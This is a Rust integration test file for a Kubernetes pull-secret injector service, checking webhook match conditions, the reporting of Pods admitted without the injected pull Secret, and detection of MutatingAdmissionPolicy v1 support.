/// The shipped webhook's `matchConditions` (every test here registers them): the API server
/// does not call the service for a Pod or ServiceAccount that already lists the Secret, or for
/// a mirror Pod, and still calls it for everything else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item12_the_api_server_skips_the_call_for_objects_that_list_the_secret() {
    let _serial = serial();
    let mut inj = Injector::start("t12").await;
    let c = inj.client.clone();
    let ns = inj.namespace("conditions", true).await;
    detach_from_default(&c, &ns).await;
    let (pods, sas) = (
        admissions(&inj, "Pod").await,
        admissions(&inj, "ServiceAccount").await,
    );

    let listed = json!({"imagePullSecrets": [{"name": "mine"}, {"name": "pull-secret"}]});
    let pod = create_pod(&c, &ns, "lists-it", listed, false).await.pod;
    assert_eq!(pull_secret_names(&pod), ["mine", "pull-secret"]);
    assert_eq!(
        admissions(&inj, "Pod").await,
        pods,
        "no call for a Pod that lists it"
    );

    let (status, _, text) = post(
        &c,
        &format!("/api/v1/namespaces/{ns}/pods?dryRun=All"),
        &json!({"apiVersion": "v1", "kind": "Pod",
                "metadata": {"name": "mirror", "annotations": {"kubernetes.io/config.mirror": "x"}},
                "spec": {"nodeName": "some-node", "automountServiceAccountToken": false,
                         "containers": [{"name": "app", "image": format!("{HOST}/team/app:1")}]}}),
    )
    .await;
    assert!(status.is_success(), "{status} {text}");
    assert_eq!(
        admissions(&inj, "Pod").await,
        pods,
        "no call for a mirror Pod"
    );

    let pod = create_pod(
        &c,
        &ns,
        "lists-another",
        json!({"imagePullSecrets": [{"name": "mine"}]}),
        false,
    )
    .await
    .pod;
    assert_eq!(pull_secret_names(&pod), ["mine", "pull-secret"]);
    assert_eq!(
        admissions(&inj, "Pod").await,
        pods + 1,
        "the others are still called"
    );

    let sa_api: Api<ServiceAccount> = Api::namespaced(c.clone(), &ns);
    let both = json!({"metadata": {"name": "has-both"},
                      "imagePullSecrets": [{"name": "pull-secret"}], "secrets": [{"name": "pull-secret"}]});
    sa_api
        .create(&Default::default(), &serde_json::from_value(both).unwrap())
        .await
        .unwrap();
    assert_eq!(
        admissions(&inj, "ServiceAccount").await,
        sas,
        "no call for a ServiceAccount listing it"
    );
    let one =
        json!({"metadata": {"name": "has-one"}, "imagePullSecrets": [{"name": "pull-secret"}]});
    let created = sa_api
        .create(&Default::default(), &serde_json::from_value(one).unwrap())
        .await
        .unwrap();
    assert_eq!(admissions(&inj, "ServiceAccount").await, sas + 1);
    assert_eq!(
        sa_refs(&created),
        (vec!["pull-secret".into()], vec!["pull-secret".into()])
    );
    inj.cleanup().await;
}

fn metric(metrics: &str, name: &str) -> i64 {
    metrics
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{name} ")))
        .unwrap_or_else(|| panic!("{name} missing from:\n{metrics}"))
        .parse()
        .unwrap()
}

/// Pods that slipped through (README, "Pods admitted without the Secret"): with no webhook
/// registered (the service down, or a timeout with failurePolicy Ignore), a Pod of an opted-in
/// namespace that lists pull Secrets of its own is admitted without ours. The refresher counts
/// it, records a `MissingPullSecret` Event on it saying what to do, `status` shows it, and the
/// Pod itself is left as it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item13_pods_admitted_without_the_secret_are_reported_and_left_alone() {
    let _serial = serial();
    let mut inj =
        Injector::start_without_webhook("t13", &kubernetes_registry("default", 3600), "").await;
    let c = inj.client.clone();
    let ns = inj.namespace("slipped", true).await;
    let plain = inj.namespace("plain", false).await;
    wait_secret(&c, &ns, "made at opt-in", |_| true).await;
    let default_attached = || async {
        let sa = get_sa(&c, &ns, "default").await;
        sa_refs(&sa).0.contains(&"pull-secret".to_string())
    };
    wait_for(
        "default attached",
        Duration::from_secs(30),
        default_attached,
    )
    .await;

    // Lists a Secret of its own, so the ServiceAccount's list is not copied in: it lacks ours.
    let own = json!({"imagePullSecrets": [{"name": "mine"}]});
    let slipped = create_pod(&c, &ns, "slipped", own.clone(), false).await.pod;
    assert_eq!(pull_secret_names(&slipped), ["mine"]);
    // Lists none: the API server copies the default ServiceAccount's, ours included.
    let copied = create_pod(&c, &ns, "copied", json!({}), false).await.pod;
    assert_eq!(pull_secret_names(&copied), ["pull-secret"]);
    // Not opted in: nothing expected.
    create_pod(&c, &plain, "elsewhere", own, false).await;

    wait_for(
        "the MissingPullSecret Event",
        Duration::from_secs(30),
        || async {
            support::node::events(&c, &ns, "slipped")
                .await
                .iter()
                .any(|e| e.starts_with("MissingPullSecret:") && e.contains("delete the Pod"))
        },
    )
    .await;
    for (other_ns, pod) in [(&ns, "copied"), (&plain, "elsewhere")] {
        let evs = support::node::events(&c, other_ns, pod).await;
        assert!(
            !evs.iter().any(|e| e.starts_with("MissingPullSecret")),
            "{other_ns}/{pod}: {evs:?}"
        );
    }
    let metrics = inj.metrics().await;
    assert_eq!(
        metric(&metrics, "pull_secret_injector_pods_without_pull_secret"),
        1
    );
    assert_eq!(
        metric(
            &metrics,
            "pull_secret_injector_missing_pull_secret_events_total"
        ),
        1
    );
    let table = inj.status_table();
    let header = table.lines().next().unwrap();
    let column = header.find("UNPATCHED PODS").expect("the column");
    let line = table
        .lines()
        .find(|l| l.starts_with(&ns))
        .unwrap_or_else(|| panic!("{ns} missing from:\n{table}"));
    assert_eq!(
        line[column..].split_whitespace().next(),
        Some("1"),
        "{table}"
    );

    // Never changed.
    let pods: Api<k8s_openapi::api::core::v1::Pod> = Api::namespaced(c.clone(), &ns);
    assert_eq!(
        pull_secret_names(&pods.get("slipped").await.unwrap()),
        ["mine"]
    );
    // Recreated (here: deleted), it is no longer counted.
    pods.delete("slipped", &DeleteParams::default().grace_period(0))
        .await
        .unwrap();
    wait_for("the count back to 0", Duration::from_secs(30), || async {
        metric(
            &inj.metrics().await,
            "pull_secret_injector_pods_without_pull_secret",
        ) == 0
    })
    .await;
    inj.cleanup().await;
}

/// Item 14: policy mode checks at start that the API server serves MutatingAdmissionPolicy v1
/// (Kubernetes 1.36+); on older ones it is not there, and the service says so.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item14_the_policy_api_is_found_where_kubernetes_serves_it() {
    let c = ControlPlane::get().client().await;
    let version = c.apiserver_version().await.unwrap();
    let minor: u32 = version
        .minor
        .trim_end_matches('+')
        .parse()
        .expect("a numeric minor version");
    let served = pull_secret_injector::cluster::policy_api_served(&c)
        .await
        .unwrap();
    eprintln!(
        "Kubernetes {}: MutatingAdmissionPolicy v1 served: {served}",
        version.git_version
    );
    assert_eq!(
        served,
        minor >= 36,
        "Kubernetes {}.{}: MutatingAdmissionPolicy v1 served",
        version.major,
        version.minor
    );
}
